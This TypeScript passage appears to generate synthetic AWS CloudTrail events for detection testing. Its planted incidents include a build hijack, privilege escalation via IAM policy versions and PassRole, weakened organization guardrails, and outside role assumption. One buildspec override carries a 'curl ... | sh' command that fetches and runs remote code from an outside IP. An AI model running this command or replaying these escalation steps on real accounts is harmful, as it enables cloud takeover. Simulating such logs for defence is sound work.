        imageScanningConfiguration: { scanOnPush: false },
      }),
    ),
    baseEvent(
      step(3),
      EVE,
      ecr("PutImage", {
        repositoryName,
        imageTag: "latest",
        imageManifestMediaType: "application/vnd.docker.distribution.manifest.v2+json",
      }),
    ),
  ];
}

/** Incident 22's cluster part: the endpoint opened to the world, eve's role made cluster admin. */
function clusterOpened(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
  const eks = (name: string, params: unknown) => write("eks.amazonaws.com", name, params);
  const principalArn = `arn:aws:iam::${ACCOUNT}:role/dev-sandbox`;
  return [
    baseEvent(
      step(0),
      EVE,
      eks("UpdateClusterConfig", {
        name: "prod",
        resourcesVpcConfig: { endpointPublicAccess: true, publicAccessCidrs: ["0.0.0.0/0"] },
      }),
    ),
    baseEvent(step(1), EVE, eks("CreateAccessEntry", { clusterName: "prod", principalArn })),
    baseEvent(
      step(2),
      EVE,
      eks("AssociateAccessPolicy", {
        clusterName: "prod",
        principalArn,
        policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
        accessScope: { type: "cluster" },
      }),
    ),
  ];
}

/** Incident 22's build part: the project made public, a build with eve's own buildspec. */
function buildHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
  const cb = (name: string, params: unknown) => write("codebuild.amazonaws.com", name, params);
  return [
    baseEvent(
      step(0),
      EVE,
      cb("UpdateProjectVisibility", {
        projectArn: `arn:aws:codebuild:us-east-1:${ACCOUNT}:project/payments-api`,
        projectVisibility: "PUBLIC_READ",
      }),
    ),
    baseEvent(
      step(1),
      EVE,
      cb("StartBuild", {
        projectName: "payments-api",
        buildspecOverride:
          "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://203.0.113.66/x | sh\n",
      }),
    ),
  ];
}

/**
 * 23. Privilege escalation (privilege-escalation): eve's sandbox session climbs to
 * administrator as Rhino Security Labs' methods do. It makes a new default version of its own
 * role's managed policy granting every action, puts an inline policy allowing iam:PassRole on
 * its own role, removes its own role's permissions boundary and adds mallory to the Admins
 * group; then it hands the prod-admin role to compute by hand: the admin instance profile put
 * on a running instance, a Glue dev endpoint with its SSH key, a SageMaker notebook opened and
 * a CloudFormation stack with the role (CodeBuild is build-and-registry's, incident 22).
 */
function privilegeEscalation({ at, ctx, write, ec2Region }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.83, i * 15_000), ec2Region);
  const iam = (name: string, params: unknown, response?: unknown) =>
    write("iam.amazonaws.com", name, params, response);
  const admin = `arn:aws:iam::${ACCOUNT}:role/prod-admin`;
  const everything =
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}';
  const passRole =
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["iam:PassRole","iam:GetRole"],"Resource":"*"}]}';
  const calls: Call[] = [
    iam(
      "CreatePolicyVersion",
      {
        policyArn: `arn:aws:iam::${ACCOUNT}:policy/dev-sandbox-access`,
        policyDocument: everything,
        setAsDefault: true,
      },
      { policyVersion: { versionId: "v4", isDefaultVersion: true } },
    ),
    iam("PutRolePolicy", { roleName: "dev-sandbox", policyName: "pass", policyDocument: passRole }),
    iam("DeleteRolePermissionsBoundary", { roleName: "dev-sandbox" }),
    iam("AddUserToGroup", { groupName: "Admins", userName: "mallory" }),
    write("ec2.amazonaws.com", "AssociateIamInstanceProfile", {
      AssociateIamInstanceProfileRequest: {
        InstanceId: "i-0e5c0000c0110022a",
        IamInstanceProfile: { Name: "prod-admin" },
      },
    }),
    write("glue.amazonaws.com", "CreateDevEndpoint", {
      endpointName: "scratch",
      roleArn: admin,
      publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC0110022 eve",
    }),
    write("sagemaker.amazonaws.com", "CreateNotebookInstance", {
      notebookInstanceName: "scratch",
      instanceType: "ml.t3.medium",
      roleArn: admin,
    }),
    write("sagemaker.amazonaws.com", "CreatePresignedNotebookInstanceUrl", {
      notebookInstanceName: "scratch",
    }),
    write("cloudformation.amazonaws.com", "CreateStack", {
      stackName: "scratch",
      templateURL: "https://s3.amazonaws.com/eve-scratch/t.yaml",
      roleARN: admin,
    }),
  ];
  return calls.map((c, i) => baseEvent(step(i), EVE, c));
}

/** The management account's root and the policy incident 23 detaches from it. */
const ORG_ROOT = "r-a1b2";
const GUARDRAIL_SCP = "p-guardrails0001";

/**
 * 24. Organization and account guardrails weakened (account-guardrails): mallory's key, an
 * administrator of the management account, detaches the guardrail SCP from the organization's
 * root, asks for a new account (and Organizations records it created), sets a password policy
 * of 6 characters remembering none, points the security contact at an outside address and
 * turns EBS encryption by default off.
 */
function accountGuardrails({ at, ctx, write, ec2Region }: Plant): Ev[] {
  const step = (i: number, region = "us-east-1") => ctx(at(0.76, i * 40_000), region);
  const org = (name: string, params: unknown, response?: unknown) =>
    write("organizations.amazonaws.com", name, params, response);
  const status = { id: "car-5e1f0a77c3d2", accountName: "backup-vault" };
  return [
    baseEvent(
      step(0),
      MALLORY,
      org("DetachPolicy", { policyId: GUARDRAIL_SCP, targetId: ORG_ROOT }),
    ),
    baseEvent(
      step(1),
      MALLORY,
      org(
        "CreateAccount",
        { email: "ops-backup@mailbox.example.net", accountName: status.accountName },
        { createAccountStatus: { ...status, state: "IN_PROGRESS" } },
      ),
    ),
    accountCreatedEvent(step(2), { ...status, accountId: "777788889999" }),
    baseEvent(
      step(3),
      MALLORY,
      write("iam.amazonaws.com", "UpdateAccountPasswordPolicy", {
        minimumPasswordLength: 6,
        allowUsersToChangePassword: true,
      }),
    ),
    baseEvent(
      step(4),
      MALLORY,
      write("account.amazonaws.com", "PutAlternateContact", {
        alternateContactType: "SECURITY",
        emailAddress: "secops@mailbox.example.net",
        name: "Security",
        phoneNumber: "+15555550123",
        title: "Security",
      }),
    ),
    baseEvent(
      step(5, ec2Region),
      MALLORY,
      write("ec2.amazonaws.com", "DisableEbsEncryptionByDefault", {
        DisableEbsEncryptionByDefaultRequest: "",
      }),
    ),
  ];
}

/** Incident 25's stranger in prod-admin: the session it opened, as its chained calls record it. */
function prodAdminSession(opened: Date, ips: string[]): Principal {
  return outsider(
    {
      type: "AssumedRole",
      principalId: "AROAEXAMPLEPRODADMIN:sync",
      arn: `arn:aws:sts::${ACCOUNT}:assumed-role/prod-admin/sync`,
      accountId: ACCOUNT,
      sessionContext: {
        sessionIssuer: {
          type: "Role",
          principalId: "AROAEXAMPLEPRODADMIN",
          arn: `arn:aws:iam::${ACCOUNT}:role/prod-admin`,
          accountId: ACCOUNT,
          userName: "prod-admin",
        },
        attributes: {
          creationDate: `${opened.toISOString().slice(0, 19)}Z`,
          mfaAuthenticated: "false",
        },
      },
    },
    ips,
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22",
  );
}

/**
 * 25. Roles assumed from outside (outside-role-use): the account incident 7 let into prod-admin
 * (444455556666, recorded as AWSAccount) assumes it; a GitHub Actions workflow of a repository
 * outside the company's assumes ci-deployer, whose trust policy does not pin the token's sub;
 * a user of the SAML provider incident 21 planted (okta-backup) federates into
 * federated-admin; and the stranger's prod-admin session chains into break-glass.
 */
function outsideRoleUse({ at, ctx }: Plant): Ev[] {
  const step = (i: number) => ctx(at(0.9, i * 60_000));
  const intruder = ["198.51.100.150"];
  const account = outsider(
    { type: "AWSAccount", principalId: "AIDAEXAMPLEOUTSIDE01", accountId: "444455556666" },
    intruder,
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22",
  );
  const subject = "repo:octo-intruder/scratch:ref:refs/heads/main";
  const workflow = webIdentity(GITHUB_OIDC, subject, "sts.amazonaws.com", ["20.42.0.17"]);
  const backup = `arn:aws:iam::${ACCOUNT}:saml-provider/okta-backup`;
  const person = samlUser("OkTaBaCkUpS1gnInGkEyHaSh=", "backup-operator", intruder);
  const chained = prodAdminSession(at(0.9, 0), intruder);
  return [
    baseEvent(step(0), account, assumeRoleCall("AssumeRole", "prod-admin", "sync")),
    baseEvent(
      step(1),
      workflow,
      assumeRoleCall(
        "AssumeRoleWithWebIdentity",
        "ci-deployer",
        "GitHubActions",
        {},
        {
          provider: GITHUB_OIDC,
          subjectFromWebIdentityToken: subject,
          audience: "sts.amazonaws.com",
        },
      ),
    ),
    baseEvent(
      step(2),
      person,
      assumeRoleCall(
        "AssumeRoleWithSAML",
        "federated-admin",
        "backup-operator",
        { principalArn: backup },
        {
          subjectType: "unspecified",
          issuer: "http://www.okta.com/exk0backup000000",
          subject: "backup-operator",
          audience: "https://signin.aws.amazon.com/saml",
          nameQualifier: "OkTaBaCkUpS1gnInGkEyHaSh=",
        },
      ),
    ),
    baseEvent(step(3), chained, assumeRoleCall("AssumeRole", "break-glass", "sync")),
  ];
}

/** In this order: each draws from the shared random stream (a new one goes last). */
const INCIDENTS = [
  rootActivity,
  deniedBurst,
  keysForAnotherUser,
  openSecurityGroup,
  trailTampering,
  loginWithoutMfa,
  policyChanges,
  passwordGuessing,
  reconnaissance,
  keyDeletion,
  snapshotShared,
  secretsHarvest,
  commandOnInstance,
  lambdaLayerAdded,
  modelAbuse,
  instanceCredentialsStolen,
  s3Ransomware,
  rdsTheft,
  leakedKeyRecon,
  networkPaths,
  signInPersistence,
  buildAndRegistry,
  privilegeEscalation,
  accountGuardrails,
  outsideRoleUse,
];

/**
 * The planted incidents, in time order, within the 12 hours before `plantedBy` (default `end`),
 * and within [start, end).
 */
export function incidentEvents(
  r: Random,
  start: Date,
  end: Date,
  regions: string[],
  plantedBy: Date = end,
): Ev[] {
  const p = plant(r, start, plantedBy, regions);
  return INCIDENTS.flatMap((incident) => incident(p))
    .filter((e) => {
      const t = Date.parse(String(e.eventTime));
      return t >= start.getTime() && t < end.getTime();
    })
    .sort((a, b) => String(a.eventTime).localeCompare(String(b.eventTime)));
}
